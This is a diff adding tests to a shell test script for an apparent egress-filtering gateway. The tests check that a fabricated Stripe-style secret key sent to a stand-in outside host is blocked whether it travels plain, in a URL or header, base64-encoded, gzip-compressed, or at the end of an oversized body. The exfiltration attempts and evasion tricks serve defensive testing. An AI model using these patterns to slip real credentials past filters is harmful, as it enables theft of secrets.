@@ -161,6 +161,21 @@ is 'and what it does not deny passes again' "$(ask http://other.outside.test/x)"
 
 is 'the ledger has the questions, their answers and the policies' \
 	"$("$ASSAY" ledger search --limit 500 --json | jq -rs '[.. | .kind? | select(. == "hold" or . == "answer" or . == "policy")] | unique | join(" ")')" 'answer hold policy'
+# A credential, in whatever clothes, is a refusal that says which and where; nothing of it comes out.
+secret=sk_live_$(printf 'Q7kZp2%s4NbWc8%sYs3Ud5If0G' XvLm Rt9x)
+before=$(wc -l <"$WORK/outside.log")
+like 'a credential in a body does not leave' "$(ask -d "key=$secret" http://other.outside.test/in)" \
+	'it carries Stripe secret key \(body, plain\).*rule dlp:stripe-secret-key.* 403$'
+like 'nor in an address' "$(ask "http://other.outside.test/in?key=$secret")" 'rule dlp:stripe-secret-key.* 403$'
+like 'nor in a field' "$(ask -H "x-note: $secret" http://other.outside.test/in)" 'rule dlp:stripe-secret-key.* 403$'
+like 'nor in base 64' "$(ask -d "note=$(printf 'here it is: %s, all of it' "$secret" | base64 -w0)" http://other.outside.test/in)" \
+	'\(body, base64\).* 403$'
+"$ASSAY" env exec "$env" -- sh -c "printf 'key=%s' $secret | gzip >/tmp/key.gz; head -c 6000000 /dev/zero | tr '\\0' x >/tmp/long; printf ' %s ' $secret >>/tmp/long"
+like 'nor compressed' "$(ask -H 'content-encoding: gzip' --data-binary @/tmp/key.gz http://other.outside.test/in)" 'rule dlp:stripe-secret-key.* 403$'
+like 'nor at the end of what is too long to be held' "$(ask -H 'expect:' --data-binary @/tmp/long http://other.outside.test/in)" ' (403|000)$'
+like 'what says that it is compressed, and is not, does not' "$(ask -H 'content-encoding: gzip' -d plain http://other.outside.test/in)" 'rule dlp:unreadable.* 403$'
+is 'none of them came out' "$(wc -l <"$WORK/outside.log")" "$before"
+is 'what only looks like it passes' "$(ask -d 'key=sk_live_xxxxxxxxxxxxxxxxxxxxxxxx' http://other.outside.test/in)" $'hello from outside\n 200'
 
 # The kill switch, with the gateway at work and with the gateway stopped.
 kill_and_look() {
